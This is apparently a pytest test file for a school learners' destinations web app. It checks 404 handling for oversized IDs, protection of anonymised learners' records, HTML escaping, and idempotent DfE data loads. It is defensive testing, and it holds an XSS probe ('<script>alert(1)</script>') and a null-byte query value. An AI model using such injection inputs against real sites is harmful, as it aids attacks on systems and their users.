def test_a_pk_too_long_for_the_database_is_not_found(cast: Cast, school_a: tuple) -> None:
    learner, _ = school_a
    leader = signed_in(cast.p1_leader)
    huge = 10**30
    for url in (
        f"/providers/{cast.p1.urn}/learners/{huge}/destinations/",
        f"/providers/{cast.p1.urn}/learners/{learner.pk}/destinations/{huge}/change/",
        f"/providers/{cast.p1.urn}/learners/{learner.pk}/destinations/{huge}/remove/",
        f"/providers/{huge}/destinations/",
        f"{reverse('destinations:cohort', args=[cast.p1.urn])}?stage=ks4&year={huge}",
        f"{reverse('destinations:cohort', args=[cast.p1.urn])}?stage=ks4%00&year=x",
    ):
        assert leader.get(url).status_code == 404, url
    assert signed_in(cast.consortium).get(f"/consortium/destinations/{huge}/").status_code == 404


def test_an_anonymised_learners_destinations_cannot_be_changed_by_any_route(cast: Cast, school_a: tuple) -> None:
    from qic.programme.data_protection import anonymise_learner

    learner, saved = school_a
    anonymise_learner(learner=learner, reason="Asked to be forgotten", actor=cast.p1_leader)
    leader = signed_in(cast.p1_leader)
    year = last_cohort()
    form = {
        "kind": "actual",
        "category": "neet",
        "recorded_on_day": "1",
        "recorded_on_month": "10",
        "recorded_on_year": str(year + 1),
    }
    for name, args in (
        ("destinations:destination_add", [cast.p1.urn, learner.pk]),
        ("destinations:destination_change", [cast.p1.urn, learner.pk, saved.pk]),
        ("destinations:destination_remove", [cast.p1.urn, learner.pk, saved.pk]),
    ):
        assert leader.post(reverse(name, args=args), form).status_code == 302
    # Its UPN is gone, so a file naming it reads as nobody's.
    page = upload(leader, cast.p1, f"UPN,destination,date\r\n{SECRET_UPN},FE,01/10/{year + 1}\r\n".encode())
    assert f"none of your learners has UPN {SECRET_UPN}" in page.content.decode()
    saved.refresh_from_db()
    assert (saved.category, saved.detail) == ("sfc", "")
    assert Destination.objects.count() == 1


# --- The DfE pages ----------------------------------------------------------------------------------


def test_an_area_name_with_markup_is_escaped_on_the_consortiums_and_the_schools_pages(cast: Cast) -> None:
    evil = "<script>alert(1)</script>"
    year = rules.cohort_years(today())[1]
    time_period = rules.dfe_time_period(year)
    row = _dfe_row(name=evil).replace("202324", time_period)
    response = _load(signed_in(cast.consortium), DFE_HEADER + row)
    assert response.status_code == 302
    release = DfeRelease.objects.get()
    assert evil not in signed_in(cast.consortium).get(response["Location"]).content.decode()
    assert release.figures_created == 1
    Provider.objects.filter(pk=cast.p1.pk).update(la_code="201", la_name="")
    ah.leavers(cast.p1, year, 6)
    page = signed_in(cast.p1_governor).get(reverse("destinations:analysis", args=[cast.p1.urn])).content.decode()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert evil not in page


def test_loading_the_same_file_again_changes_nothing(cast: Cast) -> None:
    client = signed_in(cast.consortium)
    text = DFE_HEADER + _dfe_row() + _dfe_row().replace(",201,", ",202,")
    assert _load(client, text).status_code == 302
    assert _load(client, text).status_code == 302
    first, second = DfeRelease.objects.order_by("pk")
    assert (first.figures_created, second.figures_created, second.figures_unchanged) == (2, 0, 2)
    assert DfeFigure.objects.count() == 2
